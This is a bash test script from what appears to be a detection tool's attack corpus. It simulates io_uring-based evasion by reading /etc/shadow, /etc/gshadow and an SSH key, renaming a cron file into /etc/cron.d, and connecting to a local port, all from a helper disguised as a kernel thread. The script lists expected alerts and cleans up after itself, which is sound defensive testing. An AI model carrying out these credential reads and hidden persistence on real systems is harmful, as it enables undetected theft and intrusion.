#!/bin/bash
# desc: file and network work done through io_uring so no syscall hook sees it ("curing"-style): /etc/shadow opened and read with IORING_OP_OPENAT, relative to an /etc descriptor, with OPENAT2, a user's SSH key from an SQPOLL ring (a kernel thread submits), a cron job renamed into /etc/cron.d, and a connection home with IORING_OP_CONNECT + SEND; from a helper under a kernel thread's name in a hidden directory
# mitre: T1562.001, T1014, T1003.008, T1552.004, T1071
# expect: io_uring_set_up_by_unexpected_program*6, io_uring_sensitive_file_access*5, io_uring_network_connection
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

# Where the ring is forbidden (kernel.io_uring_disabled=2) there is nothing to hide from.
if [ "$(cat /proc/sys/kernel/io_uring_disabled 2>/dev/null || echo 0)" = 2 ]; then
	echo "io_uring disabled on this kernel" >&2
	exit 77
fi
mkdir -p .cache/.k
gcc -O1 -o .cache/.k/kworker "$TAPIO_SOURCE_DIR/tests/attacks/_helpers/uring_ops.c"
k=$ATTACK_TMP/.cache/.k/kworker

# A key of the throwaway user's, for the thief.
install -d -m 700 -o "$ATTACK_UID" -g "$ATTACK_GID" "$ATTACK_HOME/.ssh"
undo "rm -rf '$ATTACK_HOME/.ssh'"
ssh-keygen -q -t ed25519 -N '' -f "$ATTACK_HOME/.ssh/id_ed25519" >/dev/null

"$k" open /etc/shadow >/dev/null
"$k" openat /etc shadow >/dev/null
"$k" open2 /etc/gshadow >/dev/null
"$k" -s open "$ATTACK_HOME/.ssh/id_ed25519" >/dev/null
# persistence put in place by a rename no rename hook sees (a comment only: harmless)
job=/etc/cron.d/$(tmpname)
printf '# tapio attack corpus\n' >cronjob
undo "rm -f '$job'"
"$k" rename "$ATTACK_TMP/cronjob" "$job"
listen_once
"$k" connect 127.0.0.1 "$port" >/dev/null
wait
